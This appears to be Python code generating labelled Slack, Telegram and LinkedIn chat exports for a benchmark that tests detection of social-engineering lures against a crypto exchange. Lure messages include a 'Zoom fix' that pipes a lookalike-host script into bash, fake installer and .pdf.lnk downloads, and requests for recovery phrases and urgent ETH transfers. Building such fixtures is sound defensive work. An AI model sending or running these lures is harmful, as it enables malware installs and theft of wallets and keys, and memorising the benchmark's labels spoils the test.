"""Chat exports in their platforms' real layouts, with lures and benign messages, labelled per message.

Location of a chat message in labels.csv: `FILE#N`, FILE relative to benchmarks/data/mail, N = the
Nth message in that file (1-based, file order) counting only real messages: Slack messages with a
`subtype` of channel_join / channel_leave / channel_purpose / channel_topic, Telegram entries of
`"type": "service"` are skipped. LinkedIn: N = the Nth data row of messages.csv (records, not lines).
"""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

from lures import _coding_test_zip
from slack_writer import SlackWriter, slack_json
from spec import ChatFile, ChatItem

SLACK_SERVICE_SUBTYPES = ("channel_join", "channel_leave", "channel_purpose", "channel_topic")
TEAM = "T01KITSUNE"
QUORIX_TEAM = "T05QRXLABS"


SLACK_USERS: dict[str, dict[str, Any]] = {
    "U01HSATO": {"name": "haruto.sato", "real": "Haruto Sato", "title": "CEO", "team": TEAM,
                 "email": "h.sato@kitsune-ex.co.jp"},
    "U01ECARTER": {"name": "emily.carter", "real": "Emily Carter", "title": "CFO", "team": TEAM,
                   "email": "emily.carter@kitsune-ex.com"},
    "U02MTANAKA": {"name": "m.tanaka", "real": "Mika Tanaka", "title": "Treasury Operations", "team": TEAM,
                   "email": "m.tanaka@kitsune-ex.co.jp"},
    "U02KSUZUKI": {"name": "k.suzuki", "real": "Kenta Suzuki", "title": "Backend Engineer", "team": TEAM,
                   "email": "k.suzuki@kitsune-ex.co.jp"},
    "U02STAKAHASHI": {"name": "s.takahashi", "real": "Sho Takahashi", "title": "Security", "team": TEAM,
                      "email": "s.takahashi@kitsune-ex.co.jp"},
    # Slack Connect guests from another workspace.
    "U05ARIVERA": {"name": "alex.rivera", "real": "Alex Rivera", "title": "Head of OTC, Quorix Labs",
                   "team": QUORIX_TEAM, "email": "alex@quorixlabs.com"},
    "U05HSATO2": {"name": "haruto.sato.ceo", "real": "Haruto Sato", "title": "CEO Kitsune Exchange",
                  "team": QUORIX_TEAM, "email": "haruto.kitsune.ceo@gmail.com"},
    "U05NKOVAC": {"name": "nina.kovac", "real": "Nina Kovac", "title": "Partnerships", "team": QUORIX_TEAM,
                  "email": "nina.kovac@quorixlabs-partners.com"},
}


_SLACK = SlackWriter(SLACK_USERS, TEAM)
_uuid, _slack_message, _slack_join = _SLACK.uuid, _SLACK.message, _SLACK.join


def slack_export() -> list[ChatFile]:
    base = "chat/slack"
    files: list[ChatFile] = []
    users_file = _SLACK.users_file(base)
    channels = [
        {"id": "C01GENERAL", "name": "general", "created": 1704067200, "creator": "U01HSATO", "is_archived": False,
         "is_general": True, "members": [u for u in SLACK_USERS if SLACK_USERS[u]["team"] == TEAM],
         "topic": {"value": "Company-wide announcements", "creator": "U01HSATO", "last_set": 1704067200},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
        {"id": "C02ENGBACK", "name": "eng-backend", "created": 1704067300, "creator": "U02KSUZUKI",
         "is_archived": False, "is_general": False, "members": ["U02KSUZUKI", "U02STAKAHASHI"],
         "topic": {"value": "", "creator": "", "last_set": 0}, "purpose": {"value": "", "creator": "", "last_set": 0}},
        {"id": "C05QRXOTC", "name": "ext-quorix-otc", "created": 1790000000, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False,
         "members": ["U02MTANAKA", "U01ECARTER", "U05ARIVERA", "U05HSATO2", "U05NKOVAC"],
         "topic": {"value": "Shared channel with Quorix Labs (Slack Connect)", "creator": "U02MTANAKA",
                   "last_set": 1790000000},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
    ]
    files.append(users_file)
    files.append(ChatFile(f"{base}/channels.json", slack_json(channels)))
    files.append(ChatFile(f"{base}/integration_logs.json", b"[]\n"))

    def day(channel: str, date: str, items: list[tuple[dict[str, Any], ChatItem | None]]) -> None:
        files.append(_SLACK.day_file(base, channel, date, items, SLACK_SERVICE_SUBTYPES))

    day("general", "2026-11-02", [
        (_slack_message("U01HSATO",
                        "Morning all. Treasury rebalance is queued in Safe, signers please review today: "
                        "<https://app.safe.global/transactions/queue?safe=eth:0x7A41c93bE02f5D8a6e91C3b4f0a2d6E8c5B19F34>. "
                        "Check the hash on your device against the one in #treasury before you sign.",
                        "2026-11-02 00:30", 100),
         ChatItem("benign", "wallet-request", "en",
                  "the real CEO's workspace account asks signers to approve a transaction in the real app.safe.global")),
        (_slack_message("U01ECARTER", "Reminder: October expense reports are due Wednesday. Receipts go in the expense tool, not here.",
                        "2026-11-02 01:10", 200),
         ChatItem("benign", "exec-impersonation", "en", "the real CFO's workspace account posts a routine reminder")),
        (_slack_message("U02STAKAHASHI",
                        "セキュリティからのお知らせ：採用担当を名乗る人から「コーディングテスト」のリポジトリを渡されて "
                        "npm install を求められたら、実行せずに #security へ連絡してください。",
                        "2026-11-02 02:00", 300),
         ChatItem("benign", "recruiter-coding-test", "ja",
                  "internal security warning that quotes the lure words (coding test, npm install)")),
    ])
    day("eng-backend", "2026-11-03", [
        (_slack_join("U02STAKAHASHI", "2026-11-03 00:00", 50), None),
        (_slack_message("U02KSUZUKI",
                        "PR for the ethers bump is up: <https://github.com/kitsune-ex/matching-engine/pull/412>. "
                        "To test: `npm ci && npm test`.",
                        "2026-11-03 02:15", 100),
         ChatItem("benign", "recruiter-coding-test", "en",
                  "colleague links the company's own GitHub PR with npm ci / npm test")),
        (_slack_message("U02STAKAHASHI",
                        "For the new runner I used the docker convenience script: `curl -fsSL https://get.docker.com | sh` "
                        "then pinned the version. Staging VLAN only.",
                        "2026-11-03 03:40", 200),
         ChatItem("benign", "investor-meeting-install", "en",
                  "internal DevOps note with curl | sh from the real get.docker.com")),
    ])
    lnk_file = {"id": "F07QRXINV1", "created": 1793785200, "timestamp": 1793785200,
                "name": "Settlement_Statement_Nov.pdf.lnk", "title": "Settlement_Statement_Nov.pdf",
                "mimetype": "application/octet-stream", "filetype": "binary", "pretty_type": "Binary",
                "user": "U05NKOVAC", "user_team": QUORIX_TEAM, "size": 2214, "mode": "hosted", "is_external": False,
                "url_private": "https://files.slack.com/files-pri/T05QRXLABS-F07QRXINV1/settlement_statement_nov.pdf.lnk",
                "url_private_download": "https://files.slack.com/files-pri/T05QRXLABS-F07QRXINV1/download/settlement_statement_nov.pdf.lnk",
                "permalink": "https://quorixlabs.slack.com/files/U05NKOVAC/F07QRXINV1/settlement_statement_nov.pdf.lnk"}
    day("ext-quorix-otc", "2026-11-04", [
        (_slack_join("U05ARIVERA", "2026-11-04 00:00", 10), None),
        (_slack_join("U05HSATO2", "2026-11-04 00:01", 20), None),
        (_slack_message("U05ARIVERA", "Hi Kitsune team, thanks for setting up the shared channel. Settlement window stays 16:00 HKT.",
                        "2026-11-04 01:00", 100),
         ChatItem("benign", "conversation-hijack", "en", "legitimate partner greeting in a Slack Connect channel")),
        (_slack_message("U05HSATO2",
                        "Mika, this is Haruto on my other account. Please DM me the signer backup for hot wallet 1 "
                        "today, I need it for the Quorix settlement. Keep it between us.",
                        "2026-11-04 02:10", 200),
         ChatItem("lure", "exec-impersonation", "en",
                  "external Slack Connect account with the CEO's real name (other workspace, gmail) asks for a signer backup")),
        (_slack_message("U05NKOVAC",
                        "Our desk uses the QuorixTrade terminal for settlements, could your treasury install it? "
                        "<https://quorixtrade.app/download/QuorixTrade-2.3.1.dmg|QuorixTrade for macOS>",
                        "2026-11-04 03:00", 300),
         ChatItem("lure", "trading-app", "en", "external guest pushes a trading app dmg from an unknown site")),
        (_slack_message("U05NKOVAC", "Also before our call: Zoom audio fix from our IT, run `curl -fsSL https://zoom-audio-fix.us/install.sh | bash`",
                        "2026-11-04 03:05", 400),
         ChatItem("lure", "investor-meeting-install", "en", "external guest asks to pipe a script into bash to 'fix Zoom'")),
        (_slack_message("U05NKOVAC", "Here is the November settlement statement.", "2026-11-04 03:20", 500, [lnk_file]),
         ChatItem("lure", "attachment", "en", "file shared in the channel is a .pdf.lnk shortcut (double extension)")),
        (_slack_message("U02MTANAKA", "Thanks Alex. We only install software from our own approved list; we'll keep using our console.",
                        "2026-11-04 04:00", 600),
         ChatItem("benign", "trading-app", "en", "staff reply declining to install, mentions installing software")),
        (_slack_message("U05ARIVERA",
                        "Settlement for today confirmed, tx on Etherscan: "
                        "<https://etherscan.io/tx/0x71c2e9a4b3d8f05e6a1c7b2d9e4f3a08c5b6d1e7f2a9c4b3d8e0f5a6c1b7d2e9>",
                        "2026-11-04 08:00", 700),
         ChatItem("benign", "wallet-request", "en", "partner shares a real etherscan.io transaction link")),
    ])
    return files


# -- Telegram Desktop (single-chat JSON export) -------------------------------------------------


def _tg_entities(parts: list[Any]) -> tuple[Any, list[dict[str, Any]]]:
    """Telegram's `text` (a string, or a list mixing strings and entity objects) and `text_entities`."""
    entities: list[dict[str, Any]] = []
    for p in parts:
        entities.append({"type": "plain", "text": p} if isinstance(p, str) else dict(p))
    text: Any = parts[0] if len(parts) == 1 and isinstance(parts[0], str) else parts
    return text, entities


def telegram_export() -> list[ChatFile]:
    people = {
        "Mika Tanaka": "user5011223344", "Emily Carter": "user5022334455", "Alex Rivera": "user6033445566",
        "Haruto Sato | Kitsune CEO": "user7788990011", "Jason Wu": "user6044556677", "Daniel Moore": "user7799001122",
        "Li Wei": "user5055667788", "박대현": "user5066778899", "Kim Min-jun": "user7700112233",
    }
    rows: list[tuple[dict[str, Any], ChatItem | None]] = []
    seq = [1000]

    def entry(sender: str, when: str, parts: list[Any], label: ChatItem, **extra: Any) -> None:
        seq[0] += 1
        moment = datetime.strptime(when, "%Y-%m-%d %H:%M").replace(tzinfo=UTC)
        text, entities = _tg_entities(parts)
        msg = {"id": seq[0], "type": "message", "date": moment.strftime("%Y-%m-%dT%H:%M:%S"),
               "date_unixtime": str(int(moment.timestamp())), "from": sender, "from_id": people[sender]}
        msg.update(extra)
        msg["text"] = text
        msg["text_entities"] = entities
        rows.append((msg, label))

    def service(actor: str, when: str, action: str, **extra: Any) -> None:
        seq[0] += 1
        moment = datetime.strptime(when, "%Y-%m-%d %H:%M").replace(tzinfo=UTC)
        msg = {"id": seq[0], "type": "service", "date": moment.strftime("%Y-%m-%dT%H:%M:%S"),
               "date_unixtime": str(int(moment.timestamp())), "actor": actor, "actor_id": people[actor],
               "action": action}
        msg.update(extra)
        msg["text"] = ""
        msg["text_entities"] = []
        rows.append((msg, None))

    service("Mika Tanaka", "2026-11-01 01:00", "invite_members", members=["Alex Rivera", "Jason Wu", "Li Wei"])
    entry("Mika Tanaka", "2026-11-01 01:05",
          [("Welcome to the Kitsune × partners OTC group. Settlement instructions are only valid when they also "
            "come through the signed portal.")],
          ChatItem("benign", "wallet-request", "en", "group admin sets the rule that instructions come via the portal"))
    entry("Alex Rivera", "2026-11-01 02:00",
          ["Thanks Mika. For reference our Safe is visible here: ",
           {"type": "link", "text": "https://app.safe.global/home?safe=eth:0x4B9e2F1c7A3d8E05b6C1f9A2e7D4c3B08a5F6e17"}],
          ChatItem("benign", "vendor-impersonation", "en", "partner shares a link to the real app.safe.global"))
    service("Haruto Sato | Kitsune CEO", "2026-11-02 03:00", "join_group_by_link", inviter="Group")
    entry("Haruto Sato | Kitsune CEO", "2026-11-02 03:02",
          [("Mika, I am locked out of the office laptop. Send me the recovery phrase of the warm wallet here so I "
            "can approve the Quorix settlement from my phone. Urgent.")],
          ChatItem("lure", "exec-impersonation", "en",
                   "account named after the CEO joins by link and asks for a recovery phrase"))
    entry("Mika Tanaka", "2026-11-02 03:10",
          ["We never share recovery phrases over chat. I will call Haruto-san on his known number."],
          ChatItem("benign", "wallet-request", "en", "staff refuses; mentions recovery phrases"))
    entry("Jason Wu", "2026-11-03 06:00",
          ["Ahead of tomorrow's investor call: some of you had Zoom issues, our IT says run the ",
           {"type": "text_link", "text": "Zoom connectivity fix", "href": "https://zoom-audio-fix.us/mac/fix.command"},
           " before joining."],
          ChatItem("lure", "investor-meeting-install", "en",
                   "text_link hides a download of a .command script from a Zoom lookalike"))
    entry("Emily Carter", "2026-11-03 06:30",
          ["Tomorrow's call is on our own Zoom: ", {"type": "link", "text": "https://us06web.zoom.us/j/81234567890"},
           ". Nothing to install."],
          ChatItem("benign", "investor-meeting-install", "en", "the real CFO posts a real zoom.us link"))
    entry("Daniel Moore", "2026-11-04 09:00",
          [("Hi all, I'm hiring for a DeFi startup. Engineers interested can try our test project, just unzip, "
            "npm install and npm start.")],
          ChatItem("lure", "recruiter-coding-test", "en", "recruiter posts a coding-test zip to run with npm install"),
          file="files/Coding_Assessment_v3.zip", file_name="Coding_Assessment_v3.zip", file_size=0,
          mime_type="application/zip")
    entry("Li Wei", "2026-11-04 10:00",
          ["今天的结算已完成，交易哈希见 ",
           {"type": "link", "text": "https://etherscan.io/tx/0x71c2e9a4b3d8f05e6a1c7b2d9e4f3a08c5b6d1e7f2a9c4b3d8e0f5a6c1b7d2e9"}],
          ChatItem("benign", "wallet-request", "zh", "colleague shares a real etherscan.io transaction link"))
    entry("Kim Min-jun", "2026-11-05 01:00",
          ["새 차익거래 앱 베타를 써 보세요. 거래소 API 키만 넣으면 됩니다: ",
           {"type": "link", "text": "https://coinquant-app.com/dl/CoinQuant.dmg"}],
          ChatItem("lure", "trading-app", "ko", "unknown member pushes a trading app dmg and asks for API keys"))
    entry("박대현", "2026-11-05 01:20",
          ["공식 앱은 앱스토어에서만 받으세요: ",
           {"type": "link", "text": "https://apps.apple.com/jp/app/kitsune-exchange/id6446512345"}],
          ChatItem("benign", "trading-app", "ko", "staff points to the real App Store listing"))
    entry("Haruto Sato | Kitsune CEO", "2026-11-05 02:00",
          ["Send 120 ETH to 0x3d9f2b7e81c4a05f6e2d19b8c7a4e3f0d5b6c182 now for the settlement, I will sign the paperwork later."],
          ChatItem("lure", "wallet-request", "en", "CEO-named account demands an urgent transfer to an unknown address"))

    # Keep the zip's size field honest: the file ships inside the export.
    test_zip = _coding_test_zip()
    for msg, _ in rows:
        if msg.get("file_name") == "Coding_Assessment_v3.zip":
            msg["file_size"] = len(test_zip)
    export = {"name": "Kitsune × Partners OTC", "type": "private_supergroup", "id": 1987654321,
              "messages": [m for m, _ in rows]}
    labels = [lab for m, lab in rows if m["type"] != "service" and lab is not None]
    return [ChatFile("chat/telegram/result.json", json.dumps(export, ensure_ascii=False, indent=1).encode(), labels),
            ChatFile("chat/telegram/files/Coding_Assessment_v3.zip", test_zip)]


# -- LinkedIn (Get a copy of your data -> messages.csv) ----------------------------------------

LI_HEADER = ["CONVERSATION ID", "CONVERSATION TITLE", "FROM", "SENDER PROFILE URL", "TO", "RECIPIENT PROFILE URLS",
             "DATE", "SUBJECT", "CONTENT", "FOLDER"]
OWNER = ("Kenta Suzuki", "https://www.linkedin.com/in/kenta-suzuki-kx")


def linkedin_export() -> list[ChatFile]:
    rows: list[list[str]] = []
    labels: list[ChatItem] = []

    def row(conv: str, sender: tuple[str, str], recipient: tuple[str, str], when: str, subject: str, content: str,
            label: ChatItem, folder: str = "INBOX") -> None:
        conv_id = "2-" + base64.b64encode(f"{_uuid(conv)}_010".encode()).decode().rstrip("=")
        rows.append([conv_id, "", sender[0], sender[1], recipient[0], recipient[1], f"{when}:00 UTC", subject,
                     content, folder])
        labels.append(label)

    moore = ("Daniel Moore", "https://www.linkedin.com/in/daniel-moore-talent-7731")
    clarke = ("Hannah Clarke", "https://www.linkedin.com/in/hannahclarke-rw")
    chen = ("Michael Chen", "https://www.linkedin.com/in/michael-chen-apexvc")
    yamamoto = ("山本 翔太", "https://www.linkedin.com/in/shota-yamamoto-web3")
    colleague = ("Sho Takahashi", "https://www.linkedin.com/in/sho-takahashi-sec")
    ryan = ("Ryan Walsh", "https://www.linkedin.com/in/ryan-walsh-arbitrex")
    dubois = ("Claire Dubois", "https://www.linkedin.com/in/claire-dubois-recrutement")
    organiser = ("Sophie Martin", "https://www.linkedin.com/in/sophie-martin-pbw")
    nasser = ("نادر السويدي", "https://www.linkedin.com/in/nader-alsuwaidi")

    row("moore", moore, OWNER, "2026-10-05 08:10", "Senior Blockchain Engineer - Aurora DeFi Labs",
        "Hi Kenta, great profile! We have a Senior Blockchain Engineer role (USD 250-320k). First step is a quick "
        "assessment: clone https://bitbucket.org/auroradefi-hiring/trading-dashboard-test, run npm install && npm run dev "
        "and fix the wallet balance bug. Could you do it today?",
        ChatItem("lure", "recruiter-coding-test", "en", "recruiter pushes a Bitbucket repo to run with npm install today"))
    row("moore", OWNER, moore, "2026-10-05 09:02", "",
        "Thanks Daniel, I don't run unknown code on my machines. Happy to do a live interview instead.",
        ChatItem("benign", "recruiter-coding-test", "en", "owner's own reply mentions running code, declines"),
        folder="SENT")
    row("clarke", clarke, OWNER, "2026-10-07 03:30", "Backend role - Tokyo fintech",
        "Hello Kenta, I'm with Robert Walters in Tokyo. A regulated fintech client is hiring a backend lead. If you're "
        "open to a chat, could you send me your CV? No rush.",
        ChatItem("benign", "recruiter-coding-test", "en", "real agency recruiter asks for a CV; nothing to run"))
    row("chen", chen, OWNER, "2026-10-09 01:00", "Investment discussion",
        "Hi Kenta, we're looking at Kitsune for our next fund. Before our call please update Zoom with our plugin: "
        "https://zoom-us.live/plugin/ZoomUpdate.pkg (the standard client won't connect to our secure rooms).",
        ChatItem("lure", "investor-meeting-install", "en", "investor asks to install a 'Zoom plugin' pkg from a lookalike"))
    row("yamamoto", yamamoto, OWNER, "2026-10-12 11:00", "",
        "鈴木さん、はじめまして。シンガポールの取引所の採用を担当しています。選考課題のプレビューはこちらです: "
        "https://sg-exchange-assessment.vercel.app 。リポジトリをクローンして npm install 後に npm start で動かしてください。",
        ChatItem("lure", "recruiter-coding-test", "ja", "Japanese recruiter: vercel.app preview plus npm install of a test repo"))
    row("takahashi", colleague, OWNER, "2026-10-14 06:00", "",
        "Kenta, FYI our security team's write-up on fake recruiters is on GitHub: "
        "https://github.com/kitsune-ex/security-notes/blob/main/fake-recruiters.md",
        ChatItem("benign", "recruiter-coding-test", "en", "colleague links the company's own GitHub notes about fake recruiters"))
    row("ryan", ryan, OWNER, "2026-10-20 05:00", "ArbitreX beta",
        "Hey Kenta! Following up from the Singapore meetup, here's our desktop trading app for your desk: "
        "https://arbitrex-labs.com/download/ArbitreX-1.8.0.dmg . If macOS warns you, right-click and Open.",
        ChatItem("lure", "trading-app", "en", "trading app dmg with a Gatekeeper bypass instruction"))
    row("dubois", dubois, OWNER, "2026-10-22 14:00", "Opportunité Lead Developer",
        "Bonjour Kenta, petit test technique avant l'entretien : clonez https://github.com/zurich-digital-assets/dev-test, "
        "lancez npm install puis npm run start, et envoyez-moi une capture d'écran ce soir.",
        ChatItem("lure", "recruiter-coding-test", "fr", "French recruiter: GitHub test repo to run with npm install"))
    row("organiser", organiser, OWNER, "2026-11-02 09:00", "Paris Blockchain Week 2027",
        "Hi Kenta, would your team like to present your matching-engine work at Paris Blockchain Week 2027? "
        "Details: https://www.parisblockchainweek.com/speakers",
        ChatItem("benign", "investor-meeting-install", "en", "conference organiser invitation with the event's real site"))
    row("nasser", nasser, OWNER, "2026-11-08 07:00", "",
        "مرحباً كينتا، سعدت بلقائك في مؤتمر دبي. أرسل لك رابط ملفي التعريفي على GitHub: https://github.com/nader-alsuwaidi",
        ChatItem("benign", "recruiter-coding-test", "ar", "conference contact shares a GitHub profile link; nothing to run"))

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(LI_HEADER)
    writer.writerows(rows)
    return [ChatFile("chat/linkedin/messages.csv", buffer.getvalue().encode("utf-8"), labels)]


def all_chats() -> list[ChatFile]:
    return [*slack_export(), *telegram_export(), *linkedin_export()]
